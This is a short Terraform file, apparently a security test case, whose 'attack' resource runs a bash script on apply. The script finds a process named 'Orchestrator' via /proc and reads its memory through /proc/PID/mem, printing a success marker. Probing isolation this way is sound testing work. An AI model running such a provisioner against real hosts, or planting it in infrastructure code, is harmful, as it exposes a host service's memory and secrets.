# Reads the memory of the server.

resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      won() { echo "attack-$((40 + 2))-succeeded: $1"; }
      for process in /proc/[0-9]*; do
        tr '\0' ' ' 2>/dev/null < "$process/cmdline" | grep -q '[O]rchestrator\.' || continue
        address=$(head -n 1 "$process/maps" 2>/dev/null | cut -d- -f1)
        [ -n "$address" ] && dd if="$process/mem" bs=1 count=4 skip=$((16#$address)) 2>/dev/null | grep -q ELF && won "read $process/mem" && break
      done
    EOT
  }
}
